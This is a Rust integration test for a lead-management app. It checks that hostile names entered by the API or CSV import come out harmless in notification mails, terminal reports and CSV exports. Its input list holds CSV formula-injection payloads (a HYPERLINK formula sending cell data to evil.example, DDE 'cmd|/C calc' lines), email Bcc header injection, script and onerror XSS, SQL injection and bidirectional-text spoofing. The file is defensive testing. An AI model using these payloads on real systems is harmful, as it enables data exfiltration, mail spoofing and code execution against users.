//! What strangers call themselves reaches a rep, a terminal and a spreadsheet, and does nothing there.

use dripline::domain::time::SECOND;
use dripline::nurture::Change;
use dripline::nurture::import::{ImportOptions, import};
use dripline::workspace::Files;
use mail_parser::MessageParser;
use serde_json::{Value, json};

use crate::support::app::TestApp;
use crate::support::database::{TestDb, on_both};
use crate::support::program::Program;
use crate::support::world::{hand_over, workspace};

on_both!(hostile_names_reach_nobody_as_more_than_names);

/// What somebody may type as a name, a company or a source.
const NAMES: [&str; 14] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+49 431 5550-0;cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "Roth\r\nBcc: victim@example.net\r\n\r\n<script>alert(1)</script>",
    "Roth\nTelefon: +1 900 555 0199\nPhone: +1 900 555 0199",
    "\"; DROP TABLE leads; --",
    "O'Brien \"the \\ rep\", 100%s {{lead.email}} ${HOME}",
    "👩‍👩‍👧‍👦 Zoë 🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "\u{202e}gpj.exe\u{2066} Roth",
    "علي بن محمد",
    "=?utf-8?q?Bcc=3A_x?= <img src=x onerror=alert(1)>",
    "nobody@example.net, \"x\" <victim@example.net>",
];

fn names() -> Vec<String> {
    NAMES.iter().map(|name| (*name).to_owned()).chain(["W".repeat(450)]).collect()
}

/// Signs that command a terminal or turn what stands beside them.
fn commands(text: &str) -> bool {
    text.chars().any(|letter| {
        letter.is_control() && letter != '\n'
            || matches!(letter, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
    })
}

fn files() -> Files {
    workspace(&[])
}

/// Half of them come by the API, half by a file.
async fn come_in(app: &TestApp, number: usize, name: &str) -> String {
    let email = format!("lead{number}@example.org");
    if number.is_multiple_of(2) {
        let lead = json!({
            "email": email, "first_name": name, "last_name": name, "company": name, "source": name,
            "job_title": name, "city": name, "phone": name, "basis": "double_opt_in",
            "fields": {"note": name},
        });
        let (status, answer) = app.post("/leads", &lead).await;
        assert_eq!(status, 201, "{answer}");
    } else {
        let mut file = csv::Writer::from_writer(Vec::new());
        let columns =
            ["email", "first_name", "last_name", "company", "source", "job_title", "city", "phone", "basis"];
        file.write_record(columns).unwrap();
        file.write_record([&email, name, name, name, name, name, name, name, "double_opt_in"]).unwrap();
        let file = file.into_inner().unwrap();
        let done = import(&app.engine, &file[..], ImportOptions::default(), |_| ()).await.unwrap();
        assert_eq!((done.new, done.bad), (1, 0), "{name:?}");
    }
    email
}

async fn hostile_names_reach_nobody_as_more_than_names(db: TestDb) {
    let app = TestApp::start(db, &files()).await;
    let mut emails = Vec::new();
    for (number, name) in names().iter().enumerate() {
        let email = come_in(&app, number, name).await;
        let (_, lead) = app.get(&format!("/leads/{email}")).await;
        let lead = lead["id"].as_i64().unwrap();
        hand_over(name.replace(char::is_control, " ")).carry_out(&app.engine, lead).await.unwrap();
        emails.push(email);
    }
    app.pass(5 * SECOND).await;
    // Once the rep has been told: of what is settled before, nobody is.
    for (email, name) in emails.iter().zip(names()).step_by(3) {
        let lead = app.get(&format!("/leads/{email}")).await.1["id"].as_i64().unwrap();
        Change::Lost { reason: name, words: None }.carry_out(&app.engine, lead).await.unwrap();
    }
    app.settle().await;
    let told = app.mails("kim@nordwerk.example");
    assert_eq!(told.len(), emails.len(), "one mail for each, to nobody else");
    assert_eq!(app.mail.accepted().len(), told.len());
    for raw in &told {
        is_a_harmless_mail(raw, &emails);
    }
    let program = Program::at(app.db.url(), &app.mail, &files());
    let text = program.done(&["report"]).await;
    assert!(!commands(&text), "{text:?}");
    // The sources are those that there are, each on its line.
    let json = program.done(&["report", "--json"]).await;
    assert!(!commands(&json), "{json:?}");
    let report: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(report["sources"].as_array().unwrap().len(), emails.len(), "{report:#}");
    for part in ["sources", "reasons", "mails", "leads"] {
        is_a_harmless_file(&program.done(&["report", "--csv", part]).await);
    }
    for email in &emails {
        for shown in ["explain", "lead"] {
            let args: &[&str] = if shown == "lead" { &["lead", "show", email] } else { &["explain", email] };
            let text = program.done(args).await;
            assert!(!commands(&text), "{text:?}");
            let forged = text.lines().any(|line| line.starts_with("Telefon:") || line.starts_with("Bcc:"));
            assert!(!forged, "{text}");
            let mut json_args = args.to_vec();
            json_args.push("--json");
            let json = program.done(&json_args).await;
            assert!(!commands(&json), "{json:?}");
            serde_json::from_str::<Value>(&json).unwrap();
        }
    }
    app.end().await;
}

fn is_a_harmless_mail(raw: &[u8], emails: &[String]) {
    let text = String::from_utf8_lossy(raw);
    let (head, _) = text.split_once("\r\n\r\n").expect("a header");
    for line in head.split("\r\n") {
        assert!(line.len() <= 998 && line.is_ascii(), "{line}");
        assert!(!line.to_lowercase().starts_with("bcc") && !line.contains(['\r', '\n']), "{line}");
    }
    let count = |name: &str| head.lines().filter(|line| line.to_lowercase().starts_with(name)).count();
    assert_eq!([count("from:"), count("to:"), count("subject:"), count("reply-to:")], [1; 4], "{head}");
    let mail = MessageParser::default().parse(raw).expect("a mail");
    let addresses = |list: Option<&mail_parser::Address>| -> Vec<String> {
        let all = list.into_iter().flat_map(|list| list.iter());
        all.filter_map(|address| address.address().map(str::to_owned)).collect()
    };
    assert_eq!(addresses(mail.to()), ["kim@nordwerk.example"]);
    assert_eq!((addresses(mail.cc()).len(), addresses(mail.bcc()).len()), (0, 0));
    let reply_to = addresses(mail.reply_to());
    assert!(reply_to.len() == 1 && emails.contains(&reply_to[0]), "{reply_to:?}");
    let subject = mail.subject().expect("a subject");
    assert!(!commands(subject) && !subject.contains('\n'), "{subject:?}");
    for part in 0..mail.text_body_count() {
        let body = mail.body_text(part).expect("a text");
        assert!(!commands(&body.replace('\r', "")), "{body:?}");
        let forged = |line: &str| line.starts_with("Telefon: +1 900") || line.starts_with("Phone: +1 900");
        assert!(!body.lines().any(forged), "{body}");
        assert!(!body.lines().any(|line| line.starts_with("Bcc:")), "{body}");
    }
    for part in 0..mail.html_body_count() {
        let body = mail.body_html(part).expect("a page");
        assert!(!body.contains("<script>") && !body.contains("<img src=x"), "{body}");
    }
}

/// It reads back as it was written, and no cell is a formula.
fn is_a_harmless_file(text: &str) {
    let mut reader = csv::ReaderBuilder::new().flexible(false).from_reader(text.as_bytes());
    let numbers: Vec<bool> = reader
        .headers()
        .unwrap()
        .iter()
        .map(|name| {
            !["source", "title", "state", "reason", "stage", "qualification", "sequence", "step", "mail"]
                .contains(&name)
        })
        .collect();
    for row in reader.records() {
        for (cell, is_number) in row.unwrap().iter().zip(&numbers) {
            assert!(!commands(cell) && !cell.contains('\n'), "{cell:?}");
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
            assert!(!is_number || cell.is_empty() || cell.parse::<f64>().is_ok(), "{cell:?}");
        }
    }
}
